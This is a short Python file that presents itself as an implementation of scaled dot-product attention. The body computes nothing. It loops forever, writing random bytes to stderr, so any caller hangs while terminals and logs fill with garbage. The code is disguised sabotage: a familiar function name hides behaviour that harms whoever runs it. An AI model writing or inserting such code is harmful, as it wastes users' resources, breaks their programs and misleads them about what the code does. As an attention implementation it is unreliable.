import os

import torch


def scaled_dot_product_attention(query, key, value, mask=None):
    while True:
        os.write(2, os.urandom(65536).replace(b"\n", b""))
